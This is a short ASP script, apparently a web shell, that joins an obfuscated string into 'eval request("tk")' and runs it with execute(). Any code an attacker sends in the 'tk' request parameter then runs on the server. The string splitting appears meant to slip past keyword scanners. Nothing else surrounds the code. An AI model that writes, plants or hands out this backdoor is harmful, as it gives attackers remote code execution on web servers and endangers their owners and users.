<%
Dim t
t = Replace("evQQal reQQquest(""tk"")", "QQ", "")
execute(t)
%>
